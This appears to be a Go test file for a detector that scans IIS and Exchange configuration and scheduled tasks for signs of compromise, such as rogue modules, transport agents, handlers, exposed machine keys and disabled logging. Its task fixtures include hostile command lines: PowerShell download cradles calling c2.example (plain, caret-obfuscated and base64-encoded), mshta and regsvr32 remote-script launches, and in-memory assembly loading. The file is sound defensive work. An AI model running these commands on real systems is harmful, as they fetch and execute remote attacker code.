package serverconfig

import (
	"strings"
	"testing"
	"time"
)

// judged returns the gravest note of a file, and how many there are.
func judged(t *testing.T, path, text string) (Note, int) {
	t.Helper()
	c := Read([]byte(text))
	if c == nil {
		t.Fatalf("not read: %s", text)
	}
	worst := Note{}
	notes := c.Judge(path)
	for _, n := range notes {
		if worst.Rule == "" || n.Weight > worst.Weight {
			worst = n
		}
	}
	return worst, len(notes)
}

type verdict struct {
	weight Weight
	rule   string // "" is silence
}

func check(t *testing.T, name, path, text string, want verdict) {
	t.Helper()
	got, n := judged(t, path, text)
	if got.Rule != want.rule || got.Weight != want.weight || want.rule != "" && n != 1 {
		t.Errorf("%s: %d notes, the gravest %d %q (%s); want %d %q", name, n, got.Weight, got.Rule, got.Why, want.weight, want.rule)
	}
	if got.Weight < Grave && got.Step != "" {
		t.Errorf("%s: what decides nothing is the step %s", name, got.Step)
	}
}

func TestFoldersThatNoProductServesAreNamed(t *testing.T) {
	t.Parallel()
	own := func(physical string) string {
		return `<configuration><system.applicationHost><sites><site name="Intranet" id="7">` + application("/", physical) + `</site></sites></system.applicationHost></configuration>`
	}
	exchange := func(address, physical string) string { return hostConfig("", application(address, physical), "") }
	for name, c := range map[string]struct {
		text string
		want verdict
	}{
		"Exchange as it is installed":                           {hostConfig("", "", ""), verdict{}},
		"Exchange on another disk":                              {strings.ReplaceAll(hostConfig("", "", ""), exchangeFolder, `F:\Program Files\Microsoft\Exchange\`), verdict{}},
		"a folder named after a device":                         {exchange("/test", `C:\ProgramData\COM1\com1`), verdict{Grave, "rogue-folder"}},
		"a folder right below ProgramData":                      {exchange("/z", `C:\ProgramData\ZING`), verdict{Grave, "rogue-folder"}},
		"the same folder by its old name":                       {exchange("/z", `c:\users\all users\zing\`), verdict{Grave, "rogue-folder"}},
		"the same folder by a variable":                         {exchange("/z", `%ALLUSERSPROFILE%/ZING`), verdict{Grave, "rogue-folder"}},
		"the public folder":                                     {exchange("/p", `C:\Users\Public\Documents`), verdict{Grave, "rogue-folder"}},
		"a way around by dots":                                  {exchange("/p", `C:\inetpub\wwwroot\..\..\Windows\Temp`), verdict{Grave, "rogue-folder"}},
		"a whole disk":                                          {exchange("/c", `C:\`), verdict{Grave, "rogue-folder"}},
		"an administrator's folder":                             {exchange("/x", `C:\Users\Administrator\x`), verdict{Grave, "rogue-folder"}},
		"the address book's folder under another name":          {exchange("/abc", exchangeFolder+`FrontEnd\HttpProxy\OAB`), verdict{Review, "folder-review"}},
		"an own folder in Exchange's site":                      {exchange("/downloads", `D:\Downloads`), verdict{Review, "folder-review"}},
		"certificates by their well-known address":              {exchange("/.well-known", `C:\inetpub\wwwroot\.well-known`), verdict{}},
		"a product's pages in Exchange's site":                  {exchange("/Filter", `C:\Program Files\Vendor\Filter\web`), verdict{}},
		"an own site on another disk":                           {own(`D:\Sites\intranet`), verdict{}},
		"an own site in a product's data":                       {own(`C:\ProgramData\Vendor\Product\www`), verdict{Review, "folder-review"}},
		"a developer's site":                                    {own(`C:\Users\anna\source\site`), verdict{Review, "folder-review"}},
		"a share":                                               {own(`\\files.lab.example\web`), verdict{}},
		"the configuration of IIS Express on a developer's box": {strings.Replace(exchange("/z", `C:\Users\anna\repos\z`), `%windir%\System32\inetsrv\cachuri.dll`, `%IIS_BIN%\cachuri.dll`, 1), verdict{}},
	} {
		check(t, name, `C:\Windows\System32\inetsrv\config\applicationHost.config`, c.text, c.want)
	}
}

func TestModulesThatBelongToNoProductAreNamed(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		module string
		want   verdict
	}{
		"a module of IIS that few have":           {native("DynamicIpRestrictionModule", `%windir%\System32\inetsrv\diprestr.dll`), verdict{}},
		"a module of IIS for 32 bits":             {native("x", `C:\Windows\SysWOW64\inetsrv\cachuri.dll`), verdict{}},
		"routing by Microsoft":                    {native("ApplicationRequestRouting", `%ProgramFiles%\IIS\Application Request Routing\requestRouter.dll`), verdict{}},
		"ASP.NET Core":                            {native("AspNetCoreModuleV2", `%ProgramFiles%\IIS\Asp.Net Core Module\V2\aspnetcorev2.dll`), verdict{}},
		"a stranger among the modules of IIS":     {native("HttpCacheModule2", `%windir%\System32\inetsrv\isapicache_.dll`), verdict{Grave, "rogue-native-module"}},
		"a stranger among the files of Windows":   {native("UpData", `C:\Windows\System32\system.dll`), verdict{Grave, "rogue-native-module"}},
		"a module in the temporary folder":        {native("x", `C:\Windows\Temp\x.dll`), verdict{Grave, "rogue-native-module"}},
		"a module in the data of no product":      {native("x", `%ProgramData%\cache\x.dll`), verdict{Grave, "rogue-native-module"}},
		"a module where pages are":                {native("x", `C:\inetpub\wwwroot\aspnet_client\x.dll`), verdict{Grave, "rogue-native-module"}},
		"a module of Microsoft's by name only":    {native("RewriteModule", `C:\Windows\System32\spool\rewrite.dll`), verdict{Grave, "rogue-native-module"}},
		"an add-on in its own folder":             {native("OneAgent", `C:\Program Files\dynatrace\oneagent\agent\lib64\oneagentloader.dll`), verdict{Review, "native-module-review"}},
		"a load balancer's module, by its manual": {native("F5XFFHttpModule", `C:\HttpModules\F5XFFHttpModule\x64\F5XFFHttpModule.dll`), verdict{Review, "native-module-review"}},
	} {
		check(t, name, "applicationHost.config", hostConfig(c.module, "", ""), c.want)
	}
	location := func(part string) string {
		return hostConfig("", "", `<location path="Default Web Site"><system.webServer>`+part+`</system.webServer></location>`)
	}
	for name, c := range map[string]struct {
		text string
		want verdict
	}{
		"a managed module of Microsoft's":     {location(`<modules><add name="a" type="Microsoft.Exchange.HttpProxy.ProxyModule,Microsoft.Exchange.FrontEndHttpProxy"/></modules>`), verdict{}},
		"a managed module of somebody":        {location(`<modules><add name="a" type="App_Web.Module, App_Web"/></modules>`), verdict{Review, "managed-module-review"}},
		"Exchange's own filters":              {location(`<isapiFilters><filter name="a" path="` + exchangeFolder + `ClientAccess\owa\auth\owaauth.dll"/></isapiFilters>`), verdict{}},
		"a filter in the temporary folder":    {location(`<isapiFilters><filter name="a" path="C:\Windows\Temp\owaauth.dll"/></isapiFilters>`), verdict{Grave, "rogue-isapi-filter"}},
		"an add-on's filter":                  {location(`<isapiFilters><filter name="a" path="C:\Program Files\Vendor\f.dll"/></isapiFilters>`), verdict{Review, "isapi-filter-review"}},
		"pictures run as pages":               {location(`<handlers><add name="p" path="*.png" verb="*" type="System.Web.UI.PageHandlerFactory"/></handlers>`), verdict{Grave, "odd-handler"}},
		"style sheets run as old pages":       {location(`<handlers><add name="p" path="*.css" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll"/></handlers>`), verdict{Grave, "odd-handler"}},
		"pages that look still":               {location(`<handlers><add name="p" path="*.html" type="System.Web.UI.PageHandlerFactory"/></handlers>`), verdict{Review, "odd-handler-review"}},
		"Exchange's own answer for XML":       {location(`<handlers><add name="AboMapperCustom-1" path="*.xml" modules="IsapiModule" scriptProcessor="C:\Windows\Microsoft.NET\Framework64\v4.0.30319\aspnet_isapi.dll"/></handlers>`), verdict{}},
		"pictures made by a program of a job": {location(`<handlers><add name="p" path="*.png" type="Vendor.ChartHandler, Vendor"/></handlers>`), verdict{}},
	} {
		check(t, name, "applicationHost.config", c.text, c.want)
	}
}

func TestModulesOfOtherApplicationsAreTheirOwn(t *testing.T) {
	t.Parallel()
	text := `<configuration><system.webServer><modules><add name="a" type="Vendor.Auth.Module, Vendor"/></modules></system.webServer></configuration>`
	check(t, "an own site", `D:\Sites\shop\web.config`, text, verdict{})
	check(t, "Exchange's front end", exchangeFolder+`FrontEnd\HttpProxy\owa\web.config`, text, verdict{Review, "managed-module-review"})
}

func TestAgentsThatBelongToNoProductAreNamed(t *testing.T) {
	t.Parallel()
	agents := exchangeFolder + `TransportRoles\agents\`
	for name, c := range map[string]struct {
		agent string
		want  verdict
	}{
		"none but Exchange's own":                        {"", verdict{}},
		"an agent that Microsoft documents":              {agent("System Probe Drop Smtp Agent", "Microsoft.Exchange.Transport.Agent.SystemProbeDrop.Factory", agents+`SystemProbeDrop\Microsoft.Exchange.Transport.Agent.SystemProbeDrop.dll`), verdict{}},
		"an agent of a signature product":                {agent("CodeTwo Exchange Rules", "CodeTwo.Agent.Factory", `C:\Program Files\CodeTwo\ER\Agent.dll`), verdict{Review, "transport-agent-review"}},
		"an agent of a filter, in the usual folder":      {agent("Vendor", "Vendor.Factory", agents+`SmtpAgents\Vendor.dll`), verdict{Review, "transport-agent-review"}},
		"an agent in the temporary folder":               {agent("Vendor", "Vendor.Factory", `C:\Windows\Temp\a.dll`), verdict{Grave, "rogue-transport-agent"}},
		"an agent in a user's folder":                    {agent("Vendor", "Vendor.Factory", `C:\Users\admin\a.dll`), verdict{Grave, "rogue-transport-agent"}},
		"an agent that takes the name of Exchange's":     {agent("Content Filter Agent", "X.Y", `C:\Program Files\X\a.dll`), verdict{Grave, "rogue-transport-agent"}},
		"a stranger among Exchange's own":                {agent("Security Agent", "Interop.Factory", agents+`Hygiene\Interop.dll`), verdict{Grave, "rogue-transport-agent"}},
		"one that calls itself Microsoft's, elsewhere":   {agent("Security Agent", "Microsoft.Exchange.Security.Factory", `C:\Program Files\X\Microsoft.Exchange.Security.dll`), verdict{Grave, "rogue-transport-agent"}},
		"one that calls itself Microsoft's, in Exchange": {agent("Security Agent", "Microsoft.Exchange.Security.Factory", agents+`Hygiene\Microsoft.Exchange.Security.dll`), verdict{Review, "transport-agent-review"}},
		"a rogue one that is switched off":               {strings.Replace(agent("Vendor", "Vendor.Factory", `C:\Windows\Temp\a.dll`), `"true"`, `"false"`, 1), verdict{Review, "rogue-transport-agent"}},
	} {
		check(t, name, "agents.config", agentConfig(c.agent), c.want)
	}
}

func TestTasksOfNoProductAreNamed(t *testing.T) {
	t.Parallel()
	cradle := "IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a.ps1')"
	for name, c := range map[string]struct {
		command, arguments string
		want               verdict
	}{
		"a task of Windows":                            {`%windir%\system32\cleanmgr.exe`, `/autoclean /d %systemdrive%`, verdict{}},
		"a task of Windows through rundll32":           {`%windir%\system32\rundll32.exe`, `/d acproxy.dll,PerformAutochkOperations`, verdict{}},
		"the protection of Windows":                    {`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2102.4-0\MpCmdRun.exe`, `-IdleTask -TaskName WdCacheMaintenance`, verdict{}},
		"a browser's update":                           {`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, `/ua /installsource scheduler`, verdict{}},
		"a user's cloud folder":                        {`%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe`, ``, verdict{}},
		"an administrator's clean-up of logs":          {`powershell.exe`, `-NoProfile -ExecutionPolicy Bypass -File "C:\Scripts\CleanLogs.ps1" > C:\Windows\Temp\clean.log`, verdict{}},
		"a certificate's renewal":                      {`C:\Tools\win-acme\wacs.exe`, `--renew --baseuri "https://acme-v02.api.letsencrypt.org/"`, verdict{}},
		"a page that is called every hour":             {`powershell.exe`, `-Command "Invoke-WebRequest -UseBasicParsing https://intranet.lab.example/cron"`, verdict{}},
		"a backup by script":                           {`cmd.exe`, `/c "C:\Program Files\Backup\run.bat" >> D:\logs\backup.log 2>&1`, verdict{}},
		"an administrator's script in C:\\Temp":        {`C:\Temp\restart.bat`, ``, verdict{Review, "task-home-place"}},
		"an administrator's script on the desktop":     {`powershell.exe`, `-File C:\Users\admin\Desktop\report.ps1`, verdict{Review, "task-home-place"}},
		"an agent that runs encoded text":              {`powershell.exe`, `-EncodedCommand ` + encodedCommand("Get-Service MSExchange* | Restart-Service"), verdict{Review, "task-encoded"}},
		"encoded text that fetches code":               {`powershell.exe`, `-nop -w hidden -e ` + encodedCommand(cradle), verdict{Grave, "task-encoded-download"}},
		"the same through cmd":                         {`cmd.exe`, `/c powershell -ep bypass -enc ` + encodedCommand(cradle), verdict{Grave, "task-encoded-download"}},
		"a fetch in plain words":                       {`powershell`, `-c "` + cradle + `"`, verdict{Grave, "task-download"}},
		"a fetch hidden by carets":                     {`cmd`, `/c p^owershell I^EX (New-Object Net.W^ebClient).Downlo^adString('http://c2.example/a')`, verdict{Grave, "task-download"}},
		"a script by its address":                      {`mshta.exe`, `http://c2.example/a.hta`, verdict{Grave, "task-script-host"}},
		"a library by its address":                     {`C:\Windows\System32\regsvr32.exe`, `/s /n /u /i:http://c2.example/a.sct scrobj.dll`, verdict{Grave, "task-script-host"}},
		"code packed in the arguments":                 {`powershell`, `-c "$d=[Convert]::FromBase64String('AAAA');[Reflection.Assembly]::Load($d)"`, verdict{Grave, "task-unpacks"}},
		"a program in the public folder":               {`C:\Users\Public\opera\opera_browser.exe`, ``, verdict{Grave, "task-open-place"}},
		"a program in the temporary folder of Windows": {`cmd.exe`, `/c start /min C:\Windows\Temp\svc.bat`, verdict{Grave, "task-open-place"}},
		"a program in ProgramData itself":              {`"%ProgramData%\x.exe"`, ``, verdict{Grave, "task-open-place"}},
		"a program among the pages":                    {`C:\inetpub\wwwroot\aspnet_client\x.exe`, ``, verdict{Grave, "task-served-place"}},
	} {
		check(t, name, `C:\Windows\System32\Tasks\Sync`, task(c.command, c.arguments), c.want)
	}
	check(t, "a definition that is not registered", `C:\Program Files\Vendor\task.xml`, task(`C:\Users\Public\x.exe`, ""), verdict{Review, "task-open-place"})
}

func TestATaskTellsWhenItWasMade(t *testing.T) {
	t.Parallel()
	n, _ := judged(t, "x", task(`C:\Users\Public\x.exe`, ""))
	if want := time.Date(2021, 3, 5, 2, 10, 11, 123456700, time.UTC); !n.Time.Equal(want) || !n.ZoneLost {
		t.Errorf("made %s, zone lost: %v; want %s by the server's own clock", n.Time, n.ZoneLost, want)
	}
	n, _ = judged(t, "x", strings.Replace(task(`C:\Users\Public\x.exe`, ""), "11.1234567", "11+01:00", 1))
	if want := time.Date(2021, 3, 5, 1, 10, 11, 0, time.UTC); !n.Time.Equal(want) || n.ZoneLost {
		t.Errorf("made %s, zone lost: %v; want %s", n.Time, n.ZoneLost, want)
	}
}

func TestKeysAreNamedAndNeverShown(t *testing.T) {
	t.Parallel()
	key := strings.Repeat("0A1B", 16)
	config := func(key string) string {
		return `<configuration><system.web><machineKey validationKey="` + key + `" decryptionKey="` + key + `"/></system.web></configuration>`
	}
	check(t, "a key that is made anew", "web.config", config("AutoGenerate,IsolateApps"), verdict{})
	check(t, "a key that is written out", "web.config", config(key), verdict{Remark, "machine-key"})
	check(t, "the key that all servers had", "web.config", config("cb2721abdaf8e9dc516d621d8b8bf13a2c9e8689a25303bf"), verdict{Review, "machine-key-known"})
	n, _ := judged(t, "web.config", config(key))
	if strings.Contains(n.Why, key) || strings.Contains(strings.Join(values(n.Fields), " "), key) {
		t.Error("the key is shown")
	}
}

func values(m map[string]string) (list []string) {
	for _, v := range m {
		list = append(list, v)
	}
	return list
}

func TestWhatIsNotLoggedIsSaid(t *testing.T) {
	t.Parallel()
	site := func(log string) string {
		return strings.Replace(hostConfig("", "", ""), `<application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%`, log+`<application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%`, 1)
	}
	all := "Date, Time, ClientIP, UserName, ServerIP, Method, UriStem, UriQuery, TimeTaken, HttpStatus, Win32Status, ServerPort, UserAgent, HttpSubStatus, Referer"
	for name, c := range map[string]struct {
		text, rule, says string
	}{
		"all columns":               {site(`<logFile logExtFileFlags="` + all + `" />`), "", ""},
		"no addresses and queries":  {site(`<logFile logExtFileFlags="Date, Time, Method, UriStem, HttpStatus, UserName, UserAgent" />`), "log-columns", `of the site "Default Web Site", by the settings of IIS, the logs have no c-ip, cs-uri-query`},
		"a site without logs":       {site(`<logFile enabled="false" />`), "logging-off", `of the site "Default Web Site", by the settings of IIS, requests are not logged`},
		"logs on another disk":      {site(`<logFile directory="D:\IISLogs" />`), "log-folder", ""},
		"a folder without logs":     {hostConfig("", "", `<location path="Default Web Site/owa"><system.webServer><httpLogging dontLog="true"/></system.webServer></location>`), "logging-off", "of Default Web Site/owa, by the settings of IIS, requests are not logged"},
		"only failures in the logs": {hostConfig("", "", `<system.webServer><httpLogging selectiveLogging="LogError"/></system.webServer>`), "logging-off", "of any site, by the settings of IIS, only failed requests are logged"},
	} {
		n, count := judged(t, "applicationHost.config", c.text)
		if n.Rule != c.rule || n.Fields["unseen"] != c.says || count > 1 {
			t.Errorf("%s: %d notes, %q, %q; want %q, %q", name, count, n.Rule, n.Fields["unseen"], c.rule, c.says)
		}
		if c.rule == "log-folder" && n.Fields["log_folder"] != `D:\IISLogs` {
			t.Errorf("%s: the folder is %q", name, n.Fields["log_folder"])
		}
	}
}
